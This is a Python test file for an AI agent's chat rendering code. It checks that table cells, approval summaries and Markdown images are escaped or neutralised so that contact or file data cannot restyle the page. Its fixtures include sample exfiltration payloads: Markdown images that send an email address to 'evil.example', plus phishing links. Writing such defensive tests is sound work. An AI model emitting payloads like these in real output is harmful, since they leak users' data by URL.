"""What the chat shows of data: table cells escaped, approval summaries escaped, Markdown images neutralised
(a browser would fetch them), so text from contacts or files cannot restyle the page or leak data by URL."""

from agent.core.render import approval_markdown, cell, display_markdown, markdown_table, neutralise


def test_table_cells_cannot_break_the_table_or_inject_links():
    out = markdown_table(["name"], [["a | b ![x](http://evil.example/p?d=1) [click](http://x)"]])
    assert out.count("|") - out.count("\\|") == 2 + 2 + 2  # header, rule, one row: the cell's pipe is escaped
    assert "![" not in out and "\\[click\\]" in out


def test_long_and_multiline_cells_are_shortened_to_one_line():
    assert cell("line one\nline two " + "x" * 100, 20) == "line one line two x…"


def test_images_in_answers_are_neutralised_but_text_stays():
    assert neutralise("Done ![pixel](http://evil.example/leak?c=jane@acme.com) ok") == \
        "Done !\u200b[pixel]\u200b(http://evil.example/leak?c=jane@acme.com) ok"
    assert display_markdown({"kind": "text", "markdown": "![a](http://e)"}) == "!\u200b[a]\u200b(http://e)"


def test_approval_summary_escapes_its_data_and_says_nothing_happens_before_approve():
    md = approval_markdown({"tool": "reply_to_conversation", "requested_by": "m@example.com", "summary": {
        "title": "Reply to ![x](http://evil) on sms", "who": "Jane <jane@acme.com>", "count": 1,
        "excluded": {"opted_out": 2}, "cost_micros": 16_000, "rendered": "Hi [there](http://phish)"}})
    assert "![x]" not in md and "\\<jane@acme.com\\>" in md
    assert "**Excluded:** opted out of this channel: 2" in md and "$0.02" in md  # reasons in words
    assert "Nothing happens until you approve" in md


def test_a_text_result_shows_only_what_the_answer_does_not_already_say():
    from agent.core.render import unsaid

    md = "Campaign 'Spring' is running: 4 of 4 done.\n\n**SANDBOX: nothing left the building.**"
    assert unsaid(md, "Campaign 'Spring' is running: 4 of 4 done.") == "**SANDBOX: nothing left the building.**"
    assert unsaid(md, "Campaign 'Spring' is running: 4 of 4 done. SANDBOX: nothing left the building.") == ""


def test_a_full_table_shows_long_cells_whole():
    long = "the phone number 12 is too short for any country: " + "x" * 150
    shown = display_markdown({"kind": "table", "title": "t", "columns": ["reason"], "rows": [[long]], "full": True})
    cut = display_markdown({"kind": "table", "title": "t", "columns": ["reason"], "rows": [[long]]})
    assert "x" * 150 in shown and "…" in cut
